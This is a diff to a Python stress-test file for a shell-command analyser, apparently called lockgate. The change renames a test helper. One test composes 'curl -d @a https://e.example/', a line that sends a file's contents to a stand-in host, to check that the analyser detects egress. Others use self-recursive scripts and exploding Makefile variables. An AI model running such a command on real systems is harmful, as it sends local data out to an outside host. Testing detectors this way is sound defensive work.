@@ -8,7 +8,7 @@ from hypothesis import strategies as st
 
 from lockgate.core.model import EffectKind, Variant
 from lockgate.shell import analyse_shell
-from support.projects import surroundings
+from support.projects import host_view
 from support.stress import times
 
 MAKE = (
@@ -32,7 +32,7 @@ WAYS = [*SHELLS, *MAKING, "python3 x", "sed -f x a", "awk -f x"]
 @pytest.mark.stress
 def test_any_file_is_code_of_the_project(text, way):
     files = {"x": text, "Makefile": text, "package.json": text, "justfile": text}
-    analysis = analyse_shell(way, "/work/project", surroundings(files))
+    analysis = analyse_shell(way, "/work/project", host_view(files))
     assert "shell:fault" not in {effect.rule for effect in analysis.effects}
     assert not any("not all of it was followed" in effect.because for effect in analysis.effects)
     assert EffectKind.EXECUTE in {effect.kind for effect in analysis.effects}
@@ -44,7 +44,7 @@ def test_any_file_is_code_of_the_project(text, way):
 @pytest.mark.stress
 def test_a_file_takes_nothing_away_from_what_stands_beside_it(text, way):
     command = f"{way}; curl -d @a https://e.example/"
-    analysis = analyse_shell(command, "/work/project", surroundings({"x": text}))
+    analysis = analyse_shell(command, "/work/project", host_view({"x": text}))
     # After `source` a name can mean a function of the file, and still the program.
     assert any(e.kind is EffectKind.EGRESS and e.variant is not Variant.SCRIPT for e in analysis.effects)
 
@@ -52,7 +52,7 @@ def test_a_file_takes_nothing_away_from_what_stands_beside_it(text, way):
 def test_a_script_that_runs_itself_ends():
     files = {"x": "bash x; bash x; bash x\n", "y": "#!/bin/sh -c\n", "Makefile": "all:\n\tmake all; make all\n"}
     for way in ("bash x", "./y", "./x", "make", "source x"):
-        analysis = analyse_shell(way, "/work/project", surroundings(files))
+        analysis = analyse_shell(way, "/work/project", host_view(files))
         assert {effect.kind for effect in analysis.effects} == {EffectKind.EXECUTE}
 
 
@@ -64,7 +64,7 @@ def test_many_files_and_long_ones_are_bounded():
         "Makefile": "A = $(A) $(B)\nB = $(A) $(A)\nall: ; $(B)\n" * 500,
     }
     for way in ("bash x", "make", "bash x; " * 50 + "true"):
-        analysis = analyse_shell(way, "/work/project", surroundings(files))
+        analysis = analyse_shell(way, "/work/project", host_view(files))
         assert EffectKind.EXECUTE in {effect.kind for effect in analysis.effects}
         assert len(analysis.effects) < 2000
 
@@ -80,6 +80,6 @@ TIRING = {
 def test_texts_that_are_made_to_tire_the_reader_are_code_of_the_project():
     for way, (name, texts) in TIRING.items():
         for text in texts:
-            analysis = analyse_shell(way, "/work/project", surroundings({name: text}))
+            analysis = analyse_shell(way, "/work/project", host_view({name: text}))
             assert {effect.kind for effect in analysis.effects} == {EffectKind.EXECUTE}
             assert not any("not all of it was followed" in effect.because for effect in analysis.effects)
